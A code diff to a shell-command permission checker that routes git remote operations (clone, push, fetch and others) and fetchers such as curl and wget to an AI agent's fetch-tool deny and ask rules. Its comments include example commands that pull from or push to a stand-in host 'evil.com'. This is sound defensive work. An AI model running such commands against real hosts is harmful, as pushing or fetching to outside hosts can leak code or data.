@@ -525,8 +525,10 @@ def _names_git_file(text: str) -> bool:
 
 # `transfers`: the files they send and save (a test holds the two alike).
 _TRANSFERS = frozenset(TRANSFER_PLAIN_UNLESS)
-# `transfers.FETCHERS`: what they fetch goes to the fetch tool, if any (a test holds the two alike).
+# `transfers.FETCHERS` and `GIT_REMOTES`: what they fetch goes to the fetch
+# tool, if any (a test holds them alike).
 _FETCHERS = frozenset({"curl", "wget", "http", "https", "xh", "xhs"})
+_GIT_REMOTES = frozenset({"clone", "fetch", "pull", "push", "ls-remote", "archive", "submodule"})
 _MOVES = frozenset({"cd", "pushd", "popd"})
 
 # What is not known here, among a command's words as values (a NUL, which
@@ -659,7 +661,11 @@ def _split_plain(command: str, config: ShellConfig) -> list[dict] | None:
         if head in _READ_ARGUMENTS:  # `git -C . push`, `find -exec`, `uv run`
             if head == "git":  # the commonest: tested here, not by a call (measured)
                 if len(words) > 1 and (
-                    words[1][0] == "-" or words[1] in GIT_RUNS and git_runs_something(words)
+                    words[1][0] == "-"
+                    or words[1] in GIT_RUNS
+                    and git_runs_something(words)
+                    or config.fetch_tool
+                    and words[1] in _GIT_REMOTES  # (read on the general path)
                 ):
                     return None
                 if len(words) > 1 and words[1] in GIT_FILE_COMMANDS:
@@ -1201,6 +1207,12 @@ def _command_subjects(cmd: Command, source: str, config: ShellConfig, depth: int
             taken += subcommand_commands(rest, at) if runs else []
             later += _hold(_taken_subjects(taken, source, config, depth))
         git_command = rest[at].value if at < len(rest) else ""
+        if config.fetch_tool and git_command in _GIT_REMOTES:
+            from .transfers import git_remote_urls
+
+            # `git clone https://evil.com/r`, `git push git@evil.com:r`
+            values = [_up_to_variable(w) for w in rest]
+            later += _fetch_subjects(git_remote_urls(values, at), text, config)
         if git_command in GIT_FILE_COMMANDS and (
             git_command not in GIT_FILE_OPTIONS or _names_git_file(text)
         ):
@@ -1240,15 +1252,7 @@ def _command_subjects(cmd: Command, source: str, config: ShellConfig, depth: int
 
             # `curl https://evil.com` fetches from evil.com: deny and ask
             # rules of the fetch tool (Claude Code's WebFetch) see it.
-            later += [
-                {
-                    "args": {config.fetch_field: url},
-                    "text": text,
-                    "tool": config.fetch_tool,
-                    "constrain": True,
-                }
-                for url in fetched_urls(program, values)
-            ]
+            later += _fetch_subjects(fetched_urls(program, values), text, config)
     if cmd.values and len(rest) > 1:
         # `X=push; git $X` is `git push` too, for deny and ask rules (as
         # written, X may hold what the agent's environment gave it).
@@ -1322,6 +1326,19 @@ def _opened(subject: dict, known: str | None) -> dict:
     if known is not None:
         subject["open"] = known
     return subject
+
+
+def _fetch_subjects(urls: list[str], text: str, config) -> list[dict]:
+    """The URLs a command fetches from, as constraint subjects of the fetch tool."""
+    return [
+        {
+            "args": {config.fetch_field: url},
+            "text": text,
+            "tool": config.fetch_tool,
+            "constrain": True,
+        }
+        for url in urls
+    ]
 
 
 def _option_subjects(words: list[str], text: str, config) -> list[dict]:
